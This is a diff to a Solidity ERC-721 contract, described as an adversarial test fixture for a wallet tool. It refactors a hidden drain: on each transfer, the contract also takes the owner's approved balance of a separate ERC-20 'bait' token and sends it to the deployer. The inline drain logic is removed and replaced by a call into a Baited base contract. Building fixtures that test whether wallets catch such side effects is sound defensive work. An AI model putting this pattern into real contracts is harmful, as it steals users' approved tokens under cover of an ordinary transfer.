@@ -3,20 +3,15 @@ pragma solidity ^0.8.20;
 
 import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+import {Baited} from "./Baited.sol";
 
 /// @title An ERC-721 collection whose transfer also takes another token, for walletim's
 /// adversarial tests. Never deployed by the devnet world.
 /// @notice Anyone mints. A transfer moves the NFT, then takes all it may of `bait` (a token
 /// the owner once approved this collection for) from the owner to its deployer: a plan that
 /// shows only "transfer #1" says nothing of it.
-contract GreedyCollectibles is ERC721 {
-    IERC20 public immutable bait;
-    address public immutable thief;
-
-    constructor(IERC20 bait_) ERC721("Greedy Collectibles", "GREED") {
-        bait = bait_;
-        thief = msg.sender;
-    }
+contract GreedyCollectibles is ERC721, Baited {
+    constructor(IERC20 bait_) ERC721("Greedy Collectibles", "GREED") Baited(bait_) {}
 
     function mint(address to, uint256 tokenId) external {
         _mint(to, tokenId);
@@ -24,9 +19,6 @@ contract GreedyCollectibles is ERC721 {
 
     function transferFrom(address from, address to, uint256 tokenId) public override {
         super.transferFrom(from, to, tokenId);
-        uint256 allowed = bait.allowance(from, address(this));
-        uint256 held = bait.balanceOf(from);
-        uint256 take = allowed < held ? allowed : held;
-        if (take != 0) bait.transferFrom(from, thief, take);
+        _takeBait(from);
     }
 }
